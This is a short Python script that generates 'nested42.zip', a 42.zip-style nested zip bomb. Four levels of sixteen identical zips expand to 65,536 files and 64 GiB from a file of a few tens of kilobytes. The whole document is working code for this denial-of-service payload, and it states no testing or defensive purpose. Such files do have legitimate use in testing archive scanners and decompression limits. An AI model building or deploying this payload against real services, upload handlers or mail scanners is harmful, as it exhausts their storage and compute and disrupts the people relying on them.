#!/usr/bin/env python3
"""Build nested42.zip, a 42.zip-style nested bomb (python3 stdlib zipfile).

Run from this directory: python3 make_bomb.py
Four levels of zips, sixteen entries at each level (every entry of a level is
the same zip one level down, as in 42.zip), and at the bottom sixteen files of
1 MiB of zeros each: 16^4 = 65,536 files, 64 GiB in all, from a file of a few
tens of kilobytes. Deterministic: fixed dates, fixed names.
"""
import io
import zipfile

FIXED = (2024, 5, 6, 7, 8, 10)


def zipped(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, FIXED)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data, compresslevel=9)
    return buf.getvalue()


def main():
    level = zipped([("%d.txt" % i, bytes(1 << 20)) for i in range(16)])
    for depth in range(3):
        level = zipped([("lib%d_%d.zip" % (depth, i), level) for i in range(16)])
    with open("nested42.zip", "wb") as f:
        f.write(level)


if __name__ == "__main__":
    main()
